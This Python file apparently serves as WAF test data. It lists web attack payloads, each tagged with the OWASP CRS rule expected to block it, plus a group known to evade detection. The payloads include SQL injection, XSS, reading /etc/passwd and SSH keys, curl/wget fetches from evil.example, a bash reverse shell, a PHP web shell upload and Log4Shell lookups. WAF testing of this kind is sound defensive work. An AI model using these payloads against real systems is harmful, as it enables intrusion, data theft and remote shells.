# Copyright (c) 2026 The kronos.homelab authors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""Attacks, each with the rule that must speak of it; 0: known to pass at paranoia 1, and so told."""

from __future__ import annotations

from requests_table import Ask, as_json, form, get, query, send, upload

SQL = [
    query("sql: always true", "1' OR '1'='1", 942100),
    query("sql: union", "-1 UNION SELECT username, password FROM users--", 942100),
    query("sql: stacked", "1; DROP TABLE users; --", 942100),
    query("sql: sleep", "1 AND SLEEP(5)", 942160),
    query("sql: pg_sleep", "1'; SELECT pg_sleep(10)--", 942100),
    query("sql: schema", "1 AND 1=(SELECT COUNT(*) FROM information_schema.tables)", 942140),
    query("sql: xp_cmdshell", "'; exec master..xp_cmdshell 'ping 10.0.0.1'--", 942190),
    query("sql: comment in a word", "1 /*!50000UNION*/ /*!50000SELECT*/ 1,2,3", 942100),
    form("sql: in a login form", "/login", {"user": "admin' OR 1=1#", "password": "x"}, 942100),
    as_json("sql: in JSON", "/api/login", {"user": "x' UNION SELECT 1,2,3--", "password": "x"}, 942100),
    get("sql: in a cookie", "/", 942100, cookie="session=1' OR '1'='1"),
    query("sql: comparison in words", "1 or 2 like 2", 942100),
    query("sql: mongo operator", "1", 942290, key="user[$ne]"),
]
XSS = [
    query("xss: script", "<script>alert(document.cookie)</script>", 941100),
    query("xss: onerror", '<img src=x onerror="alert(1)">', 941100),
    query("xss: svg", "<svg/onload=alert(1)>", 941100),
    query("xss: javascript address", "javascript:alert(document.domain)", 941210),
    query("xss: frame", '<iframe src="javascript:alert(1)"></iframe>', 941100),
    query("xss: out of an attribute", '" onmouseover="alert(1)', 941100),
    as_json("xss: in JSON", "/api/comments", {"text": "<script src=//evil.example/x.js></script>"}, 941110),
    get("xss: user agent", "/", 941100, user_agent="<script>alert(1)</script>"),
]
FILES = [
    query("files: passwd", "../../../../etc/passwd", 930100, key="file"),
    query("files: encoded twice", "..%2f..%2f..%2fetc%2fpasswd", 930100, key="file"),
    query("files: absolute", "/etc/shadow", 930120, key="file"),
    query("files: windows", "..\\..\\..\\windows\\win.ini", 930110, key="file"),
    query("files: proc", "/proc/self/environ", 930120, key="file"),
    get("files: git", "/.git/config", 930130),
    get("files: env", "/.env", 930130),
    get("files: wordpress", "/wp-config.php.bak", 920440),
    get("files: ssh key", "/.ssh/id_rsa", 930130),
    query("files: included by address", "http://203.0.113.9/shell.txt", 931100, key="page"),
    query("files: included with a question mark", "https://evil.example/shell.txt?", 931120, key="page"),
    query("files: php filter", "php://filter/convert.base64-encode/resource=index", 933140, key="page"),
]
COMMANDS = [
    query("command: cat", "127.0.0.1; cat /etc/passwd", 932160, key="host"),
    query("command: substitution", "$(curl http://evil.example/x.sh)", 932130, key="host"),
    query("command: wget in a pipe", "x | wget http://evil.example/x.sh", 932105, key="host"),
    query("command: reverse shell", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1", 932160, key="cmd"),
    query("command: powershell", "powershell.exe Invoke-Expression (Get-Content x)", 932120, key="cmd"),
    get("command: shellshock", "/cgi-bin/status", 932170, user_agent="() { :; }; /bin/bash -c 'id'"),
    form("command: in a form", "/ping", {"host": "8.8.8.8 && cat /etc/hosts"}, 932100),
]
CODE = [
    query("php: open tag", "<?php system($_GET['c']); ?>", 933100),
    query("php: function", "phpinfo()", 933160),
    query("php: object", 'O:8:"stdClass":1:{s:1:"a";s:1:"b";}', 933170),
    upload("php: uploaded", "/upload", "shell.php", "image/png", b"<?php system($_GET['c']); ?>", 933110),
    query("log4j: hidden", "${${lower:j}ndi:${lower:l}dap://evil.example/a}", 932130),
    as_json("log4j: in JSON", "/api/items", {"name": "${jndi:rmi://evil.example/a}"}, 932130),
    query("java: runtime", "java.lang.Runtime.getRuntime().exec('id')", 944100),
    query("node: function", '{"rce":"_$$ND_FUNC$$_function(){}"}', 934100),
    query("node: shell", "require('child_process').exec('id')", 933160),
]
PROTOCOL = [
    get("scanner: sqlmap", "/", 913100, user_agent="sqlmap/1.8#stable (https://sqlmap.org)"),
    get("scanner: nikto", "/", 913100, user_agent="Mozilla/5.00 (Nikto/2.1.6)"),
    get("scanner: nuclei", "/", 913100, user_agent="Nuclei - Open-source project (github.com/projectdiscovery/nuclei)"),
    get("protocol: split answer", "/?lang=en%0d%0aSet-Cookie:%20admin=1", 921120),
    query("protocol: smuggled request", "GET /admin HTTP/1.1\r\nHost: x", 921110),
    get("protocol: null byte", "/?file=a%00.png", 920270),
    Ask("protocol: method of no program", "/", "DEBUG", rules=(911100,)),
    query("protocol: ldap", "*)(uid=*))(|(uid=*", 921200),
    send("protocol: type of no program", "POST", "/api", "application/x-evil", b"<?php ?>", 920420),
    send("protocol: charset", "POST", "/api", "application/json; charset=utf-7", b"{}", 920480),
    query("protocol: session in an address", "<meta http-equiv=set-cookie content=PHPSESSID=1>", 943100),
]
# What patterns do not see at this level: it takes knowing the program, or newer rules (the last two: version 4).
MISSED = [
    query("missed: template", "{{7*7}}", 0),
    get("missed: another's record", "/api/users/2/invoices", 0),
    form("missed: guessed password", "/login", {"user": "admin", "password": "Password1"}, 0),
    query("missed: open redirect", "//evil.example/login", 0, key="next"),
    get("missed: log4j in the user agent", "/", 0, user_agent="${jndi:ldap://evil.example/a}"),
    query("missed: spring's class loader", "x", 0, key="class.module.classLoader.resources.context.parent"),
]
ATTACKS: list[Ask] = [*SQL, *XSS, *FILES, *COMMANDS, *CODE, *PROTOCOL, *MISSED]
